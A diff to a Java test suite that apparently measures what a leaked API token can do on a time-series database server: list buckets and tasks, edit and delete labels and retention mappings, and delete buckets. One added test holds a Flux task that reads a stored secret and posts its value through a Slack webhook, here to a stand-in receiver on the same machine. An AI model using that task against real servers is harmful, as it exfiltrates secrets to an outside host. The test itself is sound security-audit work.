@@ -73,13 +73,19 @@ class LeakedTokenTest extends RealServerTest {
         refused("writing a secret", () -> as.putSecrets(org.id(), Map.of("probe_secret", "overwritten")));
         refused("deleting the org", () -> as.http().delete("/api/v2/orgs/" + org.id()));
 
-        // What it can do: read every bucket's data and the secret keys, and make, change and delete tasks.
+        // What it can do: read every bucket's data, the bucket list and the secret keys; make, change and delete tasks and labels.
         assertTrue(as.query(org.id(), "from(bucket: \"app\") |> range(start: -1h)").contains("42.5"));
+        assertTrue(as.buckets(org.id()).stream().anyMatch(bucket -> bucket.name().equals("victim")));
         assertTrue(as.secretKeys(org.id()).contains("probe_secret"));
         Task task = as.createTask(org.id(), FLUX_PROBE, "probe");
         as.updateTask(task.id(), FLUX_PROBE.replace("-5m", "-6m"));
+        assertTrue(as.tasks(org.id()).stream().anyMatch(listed -> listed.id().equals(task.id())));
         as.deleteTask(task.id());
         assertTrue(api.task(task.id()).isEmpty());
+        Label theirs = api.createLabel(org.id(), "the operator's label", Map.of());
+        as.setLabelProperties(theirs.id(), Map.of("color", "#ff0000"));
+        as.deleteLabel(theirs.id());
+        assertTrue(api.label(org.id(), "the operator's label").isEmpty());
 
         // Through a task, which runs as the token's user (an org owner): writes points, reads secret values.
         Task copy = as.createTask(org.id(), """
@@ -93,6 +99,25 @@ class LeakedTokenTest extends RealServerTest {
         assertEquals("success", run.status(), String.join("\n", run.log()));
         String written = api.query(org.id(), "from(bucket: \"app\") |> range(start: -1h) |> filter(fn: (r) => r._measurement == \"via_task\")");
         assertTrue(written.contains("not-a-real-secret-leak-taskmaker"), written);
+
+        // ... and sends a secret's value to any URL it names (here a stand-in webhook on this machine).
+        try (SlackReceiver outside = new SlackReceiver()) {
+            Task send = as.createTask(org.id(), """
+                    import "array"
+                    import "slack"
+                    import "influxdata/influxdb/secrets"
+                    option task = {name: "send out", every: 1h}
+                    value = secrets.get(key: "probe_secret")
+                    array.from(rows: [{n: 1}])
+                        |> map(fn: (r) => ({r with sent: slack.message(url: "%s", token: "", channel: "#out", text: value, color: "good")}))
+                        |> yield()
+                    """.formatted(outside.url()), "probe");
+            TaskRun sent = TaskRuns.runToCompletion(as, send.id(), Duration.ofSeconds(60));
+            assertEquals("success", sent.status(), String.join("\n", sent.log()));
+            assertEquals(List.of("not-a-real-secret-leak-taskmaker"), outside.messages().stream().map(SlackReceiver.Message::text).toList());
+        } catch (java.io.IOException e) {
+            throw new AssertionError(e);
+        }
     }
 
     @Test
@@ -112,7 +137,10 @@ class LeakedTokenTest extends RealServerTest {
         assertTrue(as.query(org.id(), "from(bucket: \"app\") |> range(start: -1h)").contains("42.5"));
         as.write(org.id(), "app", point());
         assertTrue(hasLeakPoint(org));
-        as.createDbrp(org.id(), api.bucket(org.id(), "app").orElseThrow(), "1d");
+        Dbrp mapping = as.createDbrp(org.id(), api.bucket(org.id(), "app").orElseThrow(), "1d");
+        assertTrue(as.dbrps(org.id()).stream().anyMatch(listed -> listed.id().equals(mapping.id())));
+        as.deleteDbrp(org.id(), mapping.id());
+        assertTrue(api.dbrps(org.id()).stream().noneMatch(listed -> listed.id().equals(mapping.id())));
         Bucket made = as.createBucket(org.id(), "intruder", 3600, "");
         as.http().delete("/api/v2/buckets/" + s.victim().id());
         assertTrue(api.bucket(org.id(), "victim").isEmpty(), "the bucket and its data are gone");
